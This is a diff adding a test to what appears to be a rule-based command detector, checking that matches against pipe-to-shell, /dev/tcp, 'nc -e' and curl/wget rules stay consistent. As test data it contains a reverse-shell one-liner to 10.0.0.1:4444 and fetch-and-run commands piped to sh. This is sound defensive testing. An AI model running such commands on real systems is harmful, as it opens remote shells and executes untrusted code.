@@ -164,6 +164,43 @@ rules:
 // slow machine (speed itself is measured by the benchmarks).
 const CATASTROPHIC_MS = 15_000;
 
+describe('a command seen again', () => {
+  it('is answered as the first time, whatever else differs, and across many commands and patterns', () => {
+    const yaml = [
+      'rules:',
+      '  - id: pipe',
+      '    name: Piped to a shell',
+      '    severity: high',
+      '    match:',
+      "      command: ['\\| *(ba)?sh\\b']",
+      '      user: [alice]',
+      '  - id: tcp',
+      '    name: dev tcp',
+      '    severity: critical',
+      '    match:',
+      "      command: ['/dev/tcp/', 'nc -e']",
+      '  - id: fetch',
+      '    name: A fetch',
+      '    severity: low',
+      '    match:',
+      "      command: ['curl ', 'wget ']",
+      '',
+    ].join('\n');
+    const rules = parseRules(yaml, 'rules.yml');
+    const commands = ['curl -s http://x | sh', 'curl -s http://x | bash', 'wget -q http://x', 'bash -i >& /dev/tcp/10.0.0.1/4444', 'ls', 'curl | nc -e sh'];
+    const fresh = (command: string, user: string) => parseRules(yaml, 'rules.yml').matchAll(makeEvent(command, { user })).map((hit) => hit.ruleId);
+    for (let round = 0; round < 3; round++) {
+      for (const command of commands) {
+        for (const user of ['alice', 'bob']) {
+          expect(rules.matchAll(makeEvent(command, { user })).map((hit) => hit.ruleId), `${command} by ${user}`).toEqual(fresh(command, user));
+        }
+      }
+    }
+    expect(rules.match(makeEvent('curl -s http://x | sh', { user: 'bob' }))?.ruleId).toBe('fetch');
+    expect(rules.match(makeEvent('curl -s http://x | sh', { user: 'alice' }))?.ruleId).toBe('pipe');
+  });
+});
+
 describe('linear-time matching', () => {
   it('matches a 1 MB pathological input against (a+)+$ quickly', () => {
     const rules = parseRules(oneRule("      command: '(a+)+$'\n      any_arg_regex: '^(a|aa)*b$'\n"), 'rules.yml');
